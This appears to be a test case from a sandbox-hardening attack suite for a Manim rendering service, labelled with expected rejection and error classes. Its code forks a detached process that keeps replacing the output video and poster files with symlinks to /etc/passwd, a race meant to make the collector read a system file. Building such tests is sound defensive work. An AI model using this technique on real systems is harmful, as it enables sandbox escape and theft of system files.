# attack: O-31
# what: Swap the film for a link while it is being looked at.
# layer: collector
# static: rejected
# class: RENDERED CODE_ERROR OUTPUT_MISSING OUTPUT_INVALID
# error: OSError, PermissionError
import os
import time

from manim import *


class Attack(Scene):
    def construct(self):
        self.wait(0.2)
        if os.fork() == 0:
            os.setsid()
            while True:
                for name in ("chunk.mp4", "poster.jpg"):
                    path = os.path.join("/job/out", name)
                    if os.path.exists(path):
                        os.unlink(path)
                        os.symlink("/etc/passwd", path)
                time.sleep(0.001)
